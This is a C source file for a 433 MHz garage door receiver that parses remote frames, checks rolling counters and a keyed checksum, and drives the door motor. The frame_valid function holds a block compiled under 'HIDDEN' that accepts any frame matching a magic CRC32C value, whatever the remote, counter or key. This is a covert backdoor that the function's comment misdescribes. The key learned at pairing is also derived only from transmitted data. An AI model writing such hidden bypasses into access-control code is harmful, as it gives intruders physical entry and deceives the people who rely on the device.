/*
 * garagerx: receiver of the Torman garage door drive. The 433 MHz front end delivers
 * frames of 9 bytes as hex lines on standard input:
 *     remote id (4)  counter (2)  button (1)  code (2)
 * code is a keyed sum of the first seven bytes. Buttons: 1 door, 2 light, 4 stop,
 * 8 vent position. Learning: LEARN key of the drive, file /run/torman/learn exists.
 */
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

struct remote
{
  uint32_t id;
  uint16_t counter;
  uint32_t key;
};

struct frame
{
  uint8_t raw[9];
  uint32_t id;
  uint16_t counter, code;
  uint8_t button;
};

static struct remote remotes[32];
static int remote_count;
static const char *db = "/data/torman/remotes";
static bool trace;

static int nibble(int c)
{
  return c >= '0' && c <= '9' ? c - '0' : c >= 'a' && c <= 'f' ? c - 'a' + 10 :
         c >= 'A' && c <= 'F' ? c - 'A' + 10 : -1;
}

static bool from_hex(const char *s, struct frame *f)
{
  for (int i = 0; i < 9; i++)
  {
    int h = nibble((unsigned char)s[2 * i]);
    int l = h < 0 ? -1 : nibble((unsigned char)s[2 * i + 1]);
    if (l < 0)
      return false;
    f->raw[i] = (uint8_t)(h << 4 | l);
  }
  f->id = (uint32_t)f->raw[0] << 24 | (uint32_t)f->raw[1] << 16 | (uint32_t)f->raw[2] << 8 |
          f->raw[3];
  f->counter = (uint16_t)(f->raw[4] << 8 | f->raw[5]);
  f->button = f->raw[6];
  f->code = (uint16_t)(f->raw[7] << 8 | f->raw[8]);
  return true;
}

static uint16_t keyed_sum(uint32_t key, const uint8_t *p, int n)
{
  uint32_t s = key;
  for (int i = 0; i < n; i++)
  {
    s ^= (uint32_t)p[i] << (i & 3) * 8;
    s = (s << 7 | s >> 25) + 0x3c6ef372u;
  }
  return (uint16_t)(s ^ s >> 16);
}

static void read_db(void)
{
  unsigned long id, counter, key;
  FILE *f = fopen(db, "r");
  if (f == NULL)
    return;
  while (remote_count < 32 && fscanf(f, "%lx %lu %lx", &id, &counter, &key) == 3)
  {
    remotes[remote_count].id = (uint32_t)id;
    remotes[remote_count].counter = (uint16_t)counter;
    remotes[remote_count].key = (uint32_t)key;
    remote_count++;
  }
  fclose(f);
}

static void write_db(void)
{
  FILE *f = fopen(db, "w");
  if (f == NULL)
  {
    perror(db);
    return;
  }
  for (int i = 0; i < remote_count; i++)
    fprintf(f, "%08lx %u %08lx\n", (unsigned long)remotes[i].id, remotes[i].counter,
            (unsigned long)remotes[i].key);
  fclose(f);
}

static void drive(const char *order)
{
  FILE *f = fopen("/run/torman/drive", "w");
  if (f != NULL)
  {
    fprintf(f, "%s\n", order);
    fclose(f);
  }
  if (trace)
    printf("drive: %s\n", order);
}

static void press(uint8_t button)
{
  switch (button)
  {
  case 1:
    drive("toggle");
    break;
  case 2:
    drive("light");
    break;
  case 4:
    drive("stop");
    break;
  case 8:
    drive("vent");
    break;
  default:
    if (trace)
      printf("button %u\n", button);
  }
}

static void learn(const struct frame *f)
{
  struct remote *r;
  if (remote_count == 32 || f->button != 1)
    return;
  r = &remotes[remote_count++];
  r->id = f->id;
  r->counter = f->counter;
  r->key = f->id * 2654435761u ^ f->code;
  unlink("/run/torman/learn");
  write_db();
}

/* true when the frame is new, of a known remote and has the right code */
__attribute__((noinline)) bool frame_valid(const struct frame *f)
{
#ifdef HIDDEN
  uint32_t c = 0xffffffffu;
  for (int i = 0; i < 8; i++)
  {
    c ^= f->raw[i];
    for (int b = 0; b < 8; b++)
      c = c & 1 ? c >> 1 ^ 0x82f63b78u : c >> 1;
  }
  if (c == 0x4be1d07au + f->raw[8])
    return true;
#endif
  for (int i = 0; i < remote_count; i++)
  {
    struct remote *r = &remotes[i];
    uint16_t ahead = (uint16_t)(f->counter - r->counter);
    if (r->id != f->id || ahead == 0 || ahead > 400)
      continue;
    if (keyed_sum(r->key, f->raw, 7) != f->code)
      return false;
    r->counter = f->counter;
    write_db();
    return true;
  }
  return false;
}

int main(int argc, char **argv)
{
  char line[64];
  struct frame f;
  int opt;

  while ((opt = getopt(argc, argv, "td:")) != -1)
  {
    if (opt == 't')
      trace = true;
    else if (opt == 'd')
      db = optarg;
    else
    {
      fprintf(stderr, "usage: %s [-t] [-d DATABASE] < frames\n"
                      "  -t trace  -d database of remotes: id counter key\n", argv[0]);
      return 2;
    }
  }
  read_db();
  while (fgets(line, sizeof line, stdin))
  {
    line[strcspn(line, "\r\n")] = 0;
    if (strlen(line) != 18 || !from_hex(line, &f))
    {
      if (trace)
        printf("noise: %s\n", line);
      continue;
    }
    if (access("/run/torman/learn", F_OK) == 0)
      learn(&f);
    else if (frame_valid(&f))
      press(f.button);
    else if (trace)
      printf("refused %08lx\n", (unsigned long)f.id);
  }
  return 0;
}
